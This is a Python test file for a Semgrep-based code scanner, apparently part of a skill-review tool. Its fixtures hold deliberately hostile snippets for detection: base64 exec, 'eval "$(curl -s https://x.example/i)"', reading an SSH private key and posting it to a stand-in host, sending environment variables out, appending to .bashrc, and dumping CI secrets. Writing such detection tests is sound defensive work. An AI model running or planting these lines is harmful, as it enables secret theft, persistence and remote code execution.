"""semgrep's engine, called as the command `semgrep` calls it."""

import json
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from skilleval.errors import ScannerError
from skilleval.ports import ScanFile
from skilleval.review.scanners import semgrep
from skilleval.review.scanners.child import run_python, write_files
from skilleval.review.scanners.semgrep import RULES_FILE, SemgrepScanner, engine

COMMAND = (
    "scan", "--quiet", "--json", "--metrics=off", "--disable-version-check", "--disable-nosem",
    "--no-git-ignore", "--x-ignore-semgrepignore-files", "--no-rewrite-rule-ids", "--max-target-bytes=0",
    "--timeout=10", "--timeout-threshold=0", "--max-memory=2000",
)  # fmt: skip
DECODED = b"import base64\nexec(base64.b64decode('aGk='))  # nosemgrep\n"
SCRIPT = b'const cp = require("child_process");\neval(atob("aa"));\ncp.exec(`ls ${x}`);\n'
TREE = {
    "0.py": DECODED,
    "1.pyi": DECODED,
    "2.txt": DECODED,
    "3.py": "# naïve – „quoted“\n".encode() + DECODED,
    "4.py": b"import base64\nexec(base64.b64decode('aa'\n  x = = 3\n\nexec(base64.b64decode('aa'))\n",
    **{f"5{suffix}": SCRIPT for suffix in (".js", ".mjs", ".cjs", ".jsx", ".ts", ".tsx")},
    "6.sh": b'#!/bin/sh\neval "$1"\nrm -rf "$HOME/$X"\neval "$(curl -s https://x.example/i)"\n',
    "7.bash": b'eval "$1"\n',
    "8.yml": b"on: push\nenv:\n  A: ${{ toJSON(secrets) }}\n",
    "9.yaml": b"on: push\nenv:\n  A: ${{ toJSON(secrets) }}\n",
    "10.json": b'{"a": "${{ toJSON(secrets) }}"}\n',
    "11.py": b"",
    "12.py": b"\x00\xff\xfe not python \x80",
    "13.py": b"x = " + b"(" * 3000 + b")" * 3000 + b"\n",
    "14.min.js": SCRIPT,
    "15.d.ts": SCRIPT,
    "16.py": b"import requests\nrequests . post('https://a.example', data=open('/r/.ssh/id_rsa').read())\n",
    "17.py": b"import os\ns.\\\n  put('https://a.example', data=str(os.environ))\n",
    "18.py": b"import os\nq = output(os.environ.copy())\n",
    "20.js": b"const p = '/r/.ba' + 'shrc';\nfs.appendFileSync(p, x);\nfetch(JSON.stringify(process.env));\n",
    "21.ts": b"const p = '/r/.ssh/id_rsa';\nconst k = fs.readFileSync(p);\naxios.post(u, k);\n",
    "19.py": b"a = '/root/.ba'\np = a + 'shrc'\nwith open(p, 'a') as f:\n    f.write('x')\n",
}


@pytest.mark.parametrize("few", [50, 0], ids=["in one call", "in several calls"])
def test_it_says_what_the_command_says(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, few: int) -> None:
    """The hits are those of the command `semgrep` with the same rules, on every kind of file.

    Also where rules are left out for files that do not hold what they need.
    """
    monkeypatch.setattr(semgrep, "FEW", few)
    files = [ScanFile(path=name, content=content) for name, content in TREE.items()]
    folder = tmp_path / "files"
    folder.mkdir()
    write_files(folder, files)
    start = "from semgrep.console_scripts.pysemgrep import main; main()"

    _, said = run_python(
        "semgrep", ["-c", start, *COMMAND, f"--config={RULES_FILE}", "--", *TREE], folder=folder, timeout_s=60
    )

    command = [(hit["path"], hit["check_id"], hit["start"]["line"]) for hit in json.loads(said)["results"]]
    ours = [(found.path, found.rule, found.line) for found in SemgrepScanner().scan("tidy", files)]
    assert sorted(ours) == sorted(command)
    assert {path for path, _, _ in ours} >= {"0.py", "1.pyi", "3.py", "5.ts", "6.sh", "8.yml"}
    assert {(path, rule) for path, rule, _ in ours} >= {
        ("16.py", "py-secrets-to-network"),
        ("17.py", "py-secrets-to-network"),
        ("19.py", "py-write-startup"),
        ("20.js", "js-write-startup"),
        ("20.js", "js-secrets-to-network"),
        ("21.ts", "js-secrets-to-network"),
    }


def test_dear_rules_are_left_out_where_nothing_holds_their_words(monkeypatch: pytest.MonkeyPatch) -> None:
    """In a second call: all files but those of a rule's language that hold what it needs."""
    monkeypatch.setattr(semgrep, "FEW", 0)
    files = [ScanFile(path=name, content=content) for name, content in TREE.items()]

    (given, rules), (others, fewer) = semgrep._calls(files)

    assert {"16.py", "17.py", "20.js", "21.ts"} <= {file.path for file in given}
    assert {"0.py", "6.sh", "8.yml", "18.py"} <= {file.path for file in others}
    assert len(given) + len(others) == len(files)
    left_out = {rule["id"] for rule in rules} - {rule["id"] for rule in fewer}
    assert left_out == {"py-secrets-to-network", "js-secrets-to-network"}


def test_a_usual_change_is_one_call() -> None:
    """A few files are looked at in one call with all rules."""
    assert len([*semgrep._calls([ScanFile(path=name, content=TREE[name]) for name in TREE])]) == 1


@pytest.fixture
def speak(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[object], None]:
    """Put a program in the engine's place that says what it is told to."""

    def as_engine(said: object, *, code: int = 0) -> None:
        words = tmp_path / "words"
        words.write_text(said if isinstance(said, str) else json.dumps(said))
        program = tmp_path / "semgrep-core"
        program.write_text(f"#!/bin/sh\ncat {words}\nexit {code}\n")
        program.chmod(program.stat().st_mode | stat.S_IXUSR)
        monkeypatch.setattr(engine, "engine_path", lambda: program)

    return as_engine


def says(**changes: object) -> dict[str, object]:
    """Return what the engine says of one clean file, with changes."""
    version = SemgrepScanner().version()
    return {"version": version, "results": [], "errors": [], "paths": {"scanned": ["0.py"]}, **changes}


FILES = [ScanFile(path="0.py", content=DECODED)]
PLACE = {"line": 1, "col": 1, "offset": 0}


def test_a_clean_answer_is_no_finding(speak: Callable[[object], None]) -> None:
    """The double of the engine is believed when it says what the engine would."""
    speak(says())

    assert SemgrepScanner().scan("tidy", FILES) == ()


@pytest.mark.parametrize(
    ("said", "words"),
    [
        ("", "not what its version promises"),
        ("{}", "not what its version promises"),
        (says(version="0.1"), "engine is of version 0.1"),
        (says(paths={"scanned": []}), "left out 1 files without a word: 0.py"),
        (says(results=[{"check_id": "x"}]), "not what its version promises"),
        (
            says(errors=[{"error_type": "Rule parse error", "severity": "error", "message": "no"}]),
            "Rule parse error: no",
        ),
    ],
)
def test_an_unexpected_answer_is_an_error(speak: Callable[[object], None], said: object, words: str) -> None:
    """What the engine's version does not promise is a named error, never a clean bill."""
    speak(said)

    with pytest.raises(ScannerError, match=words):
        SemgrepScanner().scan("tidy", FILES)


@pytest.mark.parametrize("kind", ["Timeout", "Out of memory", "Stack overflow"])
def test_a_file_that_it_gives_up_on_is_incomplete(speak: Callable[[object], None], kind: str) -> None:
    """A rule that runs out of time or memory on a file is one finding that says so."""
    where = {"path": "0.py", "start": PLACE, "end": PLACE}
    trouble = {"error_type": kind, "severity": "warn", "message": "", "location": where}
    speak(says(errors=[trouble, trouble]))

    (found,) = SemgrepScanner().scan("tidy", FILES)

    assert (found.rule, found.path, found.incomplete) == ("scan-gave-up", "0.py", True)


def test_an_engine_that_fails_is_an_error(speak: Callable[..., None]) -> None:
    """An exit code other than 0 is an error with the code."""
    speak(says(), code=2)

    with pytest.raises(ScannerError, match="semgrep ended with code 2"):
        SemgrepScanner().scan("tidy", FILES)


def test_files_without_rules_start_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    """When no file is in a language that has rules, the engine is not started."""
    monkeypatch.setattr(engine, "engine_path", lambda: Path("/nowhere"))

    assert SemgrepScanner().scan("tidy", [ScanFile(path="0.json", content=b"{}")]) == ()


def test_a_missing_engine_is_an_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A package without its engine is named, with what to do."""

    class Distribution:
        def locate_file(self, path: str) -> Path:
            return tmp_path / path

    monkeypatch.setattr(engine, "distribution", lambda _name: Distribution())

    with pytest.raises(ScannerError, match="engine is not in its package"):
        SemgrepScanner().scan("tidy", FILES)


def test_every_language_of_the_rules_has_files() -> None:
    """No rule is for a language that the engine is never given; what reads JavaScript reads TypeScript."""
    rules: list[dict[str, list[str]]] = json.loads(RULES_FILE.read_text())["rules"]
    wanted = {frozenset(rule["languages"]) for rule in rules}

    assert wanted == set(map(frozenset, (["python"], ["javascript", "typescript"], ["bash"], ["yaml"])))
